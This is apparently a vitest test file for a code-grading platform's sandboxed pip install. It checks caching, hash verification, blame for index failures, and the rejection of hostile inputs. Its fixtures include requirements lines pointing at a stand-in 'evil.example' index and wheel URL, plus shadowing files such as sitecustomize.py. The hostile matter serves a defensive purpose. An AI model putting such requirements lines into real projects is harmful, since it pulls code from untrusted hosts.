/**
 * Python dependencies on the real path: pip in the throwaway install sandbox, on the install
 * network, from a PEP 503 index that is a container on that network serving wheels built by the
 * test (PyPI is out of reach here; runner/devtools/pip-index.ts, wheels.ts). Shown here:
 * - a requirement and its dependency resolved from the index into /workspace/.venv, and the
 *   service started with that environment (100%);
 * - the second submission with the same requirements restores .venv from the dependency cache
 *   without asking the index anything;
 * - pyproject.toml [project] dependencies, and requires-python checked against the image;
 * - requirements leaving the index (--extra-index-url, a URL) rejected before any install;
 * - a wrong --hash is the candidate's failure; an unreachable or failing index is the platform's
 *   (REGISTRY_UNAVAILABLE, retried);
 * - files in the workspace named like the modules the install imports are never imported by it.
 */
import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { cp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { docker, images, uniqueId } from '../runner/devtools/env.ts';
import { startPipIndex, type PipIndex } from '../runner/devtools/pip-index.ts';
import { startStack, type Stack } from '../runner/devtools/stack.ts';
import { testPackages } from '../runner/devtools/wheels.ts';
import type { Report } from '../runner/report/schema.ts';
import { SandboxContainer } from '../runner/sandbox/index.ts';
import { listTar } from '../runner/stages/pack/tar.ts';
import { IMAGE_PYTHON_VERSION } from '../runner/stages/plan/python.ts';
import { useGradingStack } from './support/grading.ts';

const SERVICE = 'test/fixtures/realistic/python-requirements';
const wheels = testPackages();
const hashOf = (file: string) => wheels.find((w) => w.filename === file)!.sha256;

let index: PipIndex;
const cacheDir = mkdtempSync(path.join(os.tmpdir(), 'assay-pip-cache-'));

// The pip index, registered before the stack: up before the stack starts (its env names the
// index) and closed after it.
beforeAll(async () => {
  index = await startPipIndex({ wheels });
});

afterAll(async () => {
  await index?.close();
});

const grading = useGradingStack({ env: () => ({ ASSAY_PIP_INDEX_URL: index.url, ASSAY_DEPS_CACHE_DIR: cacheDir, ASSAY_WORKER_CONCURRENCY: '1' }) });

/** The realistic Python service, with files replaced or added (null: left out). */
async function service(files: Record<string, string | null> = {}): Promise<{ dir: string }> {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'assay-pip-repo-'));
  await cp(SERVICE, dir, { recursive: true, filter: (src) => path.basename(src) !== 'case.json' });
  for (const [name, text] of Object.entries(files)) {
    if (text === null) await rm(path.join(dir, name));
    else await writeFile(path.join(dir, name), text);
  }
  return { dir };
}

async function grade(on: Stack, repo: { dir: string } | Record<string, string>): Promise<Report> {
  return (await grading.grade(repo, { on, timeoutMs: 300_000, name: 'py' })).report!;
}

const step = (r: Report, name: string) => r.steps.find((s) => s.name === name);
const explain = (r: Report) => r.steps.map((s) => `${s.name} ${s.status}: ${s.reason ?? ''}\n${s.status === 'failed' ? (s.log?.text ?? '').slice(-1500) : ''}`).join('\n') + `\nerror: ${r.error?.message ?? ''}`;

describe('Python dependencies', () => {
  it('installs a wheel and its dependency from the index into .venv, then restores them from the cache', async () => {
    const before = (await index.requests()).length;
    const cold = await grade(grading.stack, await service());
    expect(cold.runtime).toBe('python');
    expect(step(cold, 'install')?.status, explain(cold)).toBe('passed');
    expect(step(cold, 'install')?.log?.text).toMatch(/Successfully installed base-kit-1\.2\.0 tinyid-2\.0\.1/);
    expect(step(cold, 'install')?.reason).toBe('1 requirement from requirements.txt; wheels only');
    expect(cold.score.percent, explain(cold)).toBe(100);
    const asked = (await index.requests()).slice(before);
    expect(asked).toEqual(expect.arrayContaining(['/simple/tinyid/', '/simple/base-kit/', '/files/tinyid-2.0.1-py3-none-any.whl', '/files/base_kit-1.2.0-py3-none-any.whl']));
    // Only .venv leaves the install container: no pip (it runs from the image), no cache, no log.
    const [entry] = readdirSync(cacheDir).filter((f) => f.endsWith('.tar'));
    const paths = (await listTar(readFileSync(path.join(cacheDir, entry!)))).map((e) => e.path.replace(/^\.\//, ''));
    expect(paths.every((p) => p.startsWith('.venv'))).toBe(true);
    expect(paths).toContain('.venv/lib/python3.11/site-packages/tinyid/__init__.py');
    expect(paths.some((p) => p.includes('site-packages/pip/'))).toBe(false);

    const warmFrom = (await index.requests()).length;
    const warm = await grade(grading.stack, await service());
    expect(step(warm, 'install')?.reason).toMatch(/restored \.venv from the dependency cache/);
    expect(warm.score.percent, explain(warm)).toBe(100);
    expect((await index.requests()).slice(warmFrom)).toEqual([]);
  });

  it('installs pyproject.toml [project] dependencies and flags a requires-python the image cannot meet', async () => {
    const report = await grade(
      grading.stack,
      await service({
        'requirements.txt': null,
        'pyproject.toml': '[project]\nname = "tasks"\nversion = "0.1.0"\nrequires-python = ">=3.12"\ndependencies = ["tinyid>=2"]\n',
      }),
    );
    expect(step(report, 'install')?.log?.text, explain(report)).toMatch(/Successfully installed base-kit-1\.2\.0 tinyid-2\.0\.1/);
    expect(report.score.percent, explain(report)).toBe(100);
    expect(report.flags).toContainEqual({ code: 'runtime_version', message: expect.stringMatching(/requires-python ">=3\.12" is not met by the sandbox's Python 3\.11/) });
  });

  it('rejects requirements that leave the index before anything is installed', async () => {
    const before = (await index.requests()).length;
    const report = await grade(
      grading.stack,
      await service({ 'requirements.txt': 'tinyid==2.0.1\n--extra-index-url https://evil.example/simple\nbase-kit @ https://evil.example/base_kit-9.0-py3-none-any.whl\n' }),
    );
    const install = step(report, 'install')!;
    expect(install.status).toBe('failed');
    expect(install.reason).toMatch(/dependencies rejected: requirements\.txt:2: --extra-index-url is not allowed.*requirements\.txt:3: /);
    expect(install.durationMs).toBe(0);
    expect(report.score.points).toBe(0);
    expect((await index.requests()).slice(before)).toEqual([]);
  });

  it('fails a wrong --hash as the candidate\'s failure, with pip\'s reason', async () => {
    const report = await grade(
      grading.stack,
      await service({
        'requirements.txt': `tinyid==2.0.1 --hash=sha256:${'0'.repeat(64)}\nbase-kit==1.2.0 --hash=sha256:${hashOf('base_kit-1.2.0-py3-none-any.whl')}\n`,
      }),
    );
    expect(report.status, explain(report)).toBe('completed');
    const install = step(report, 'install')!;
    expect(install.status).toBe('failed');
    expect(install.reason).toMatch(/^pip install exited with code 1/);
    expect(install.log?.text).toMatch(/DO NOT MATCH THE HASHES[\s\S]*Expected sha256 0{64}/);
    expect(report.score.points).toBe(0);
  });

  it('installs with the right hashes (--require-hashes honoured, not refused)', async () => {
    const report = await grade(
      grading.stack,
      await service({
        'requirements.txt': `tinyid==2.0.1 \\\n    --hash=sha256:${hashOf('tinyid-2.0.1-py3-none-any.whl')}\nbase-kit==1.2.0 \\\n    --hash=sha256:${hashOf('base_kit-1.2.0-py3-none-any.whl')}\n`,
      }),
    );
    expect(step(report, 'install')?.status, explain(report)).toBe('passed');
    expect(step(report, 'install')?.reason).toMatch(/every package checked against its --hash/);
    expect(report.score.percent, explain(report)).toBe(100);
  });

  it('never imports workspace files named like what the install runs (venv, pip, sitecustomize)', async () => {
    const marker = "import os\nos.makedirs('/workspace/.venv', exist_ok=True)\nopen('/workspace/.venv/CANDIDATE_CODE_RAN', 'a').write(__name__)\n";
    const report = await grade(
      grading.stack,
      await service({
        'requirements.txt': 'tinyid==2.0.1\n# the same packages, another cache key\n',
        'venv.py': marker,
        'ensurepip.py': marker,
        'sitecustomize.py': marker,
        'usercustomize.py': marker,
        'runpy.py': marker,
      }),
    );
    expect(step(report, 'install')?.status, explain(report)).toBe('passed');
    for (const f of readdirSync(cacheDir).filter((x) => x.endsWith('.tar'))) {
      const paths = (await listTar(readFileSync(path.join(cacheDir, f)))).map((e) => e.path);
      expect(paths.some((p) => p.includes('CANDIDATE_CODE_RAN'))).toBe(false);
    }
  });

  it('checks requires-python against the Python the image really has', async () => {
    const box = await SandboxContainer.start(
      docker,
      { image: images.python.tag, role: 'probe', jobId: uniqueId('py-version'), workerId: 'test', network: { mode: 'none' }, limits: { memoryMb: 64, cpus: 0.5, pids: 32, workspaceMb: 16 } },
      Buffer.alloc(1024),
      { outputBytes: 4096 },
    );
    try {
      const run = await box.exec(['python3', '-c', 'import platform; print(platform.python_version())'], { timeoutMs: 20_000, outputBytes: 4096 });
      expect(run.stdout.text.trim()).toBe(IMAGE_PYTHON_VERSION);
    } finally {
      await box.remove();
    }
  });
});

describe('whose fault a failed pip install is', () => {
  async function withStack(indexUrl: string, fn: (s: Stack) => Promise<void>): Promise<void> {
    const s = await startStack(grading.redis.url, { ASSAY_PIP_INDEX_URL: indexUrl, ASSAY_JOB_ATTEMPTS: '2', ASSAY_DEPS_CACHE_DIR: mkdtempSync(path.join(os.tmpdir(), 'assay-pip-c-')) });
    try {
      await s.startWorker();
      await fn(s);
    } finally {
      await s.close();
    }
  }

  it('an index that cannot be reached is the platform\'s failure, retried and never blamed on the candidate', async () => {
    await withStack(index.refusedUrl, async (s) => {
      const report = await grade(s, await service());
      expect(report.status).toBe('failed');
      expect(report.error).toMatchObject({ fault: 'platform', code: 'REGISTRY_UNAVAILABLE' });
      expect(report.error?.message).toMatch(/not the candidate's fault/);
      expect((await s.queue.grading.getJob(report.submissionId))?.attemptsMade).toBe(2);
    });
  });

  it('an index answering 503 is the platform\'s failure too (pip says so only in its debug log)', async () => {
    await index.setFailing(503);
    try {
      await withStack(index.url, async (s) => {
        const report = await grade(s, await service());
        // pip's own output says only "No matching distribution found", as for a missing package.
        expect(report.error).toMatchObject({ fault: 'platform', code: 'REGISTRY_UNAVAILABLE' });
      });
    } finally {
      await index.setFailing(undefined);
    }
  });

  it('a package the index does not have is the candidate\'s failure, with pip\'s reason', async () => {
    const report = await grade(grading.stack, await service({ 'requirements.txt': 'tinyid==2.0.1\nassay-no-such-package-3f9c2e==1.0\n' }));
    expect(report.status).toBe('completed');
    expect(step(report, 'install')?.status).toBe('failed');
    expect(step(report, 'install')?.log?.text).toMatch(/No matching distribution found for assay-no-such-package-3f9c2e==1\.0/);
    expect(report.score.points).toBe(0);
  });
});
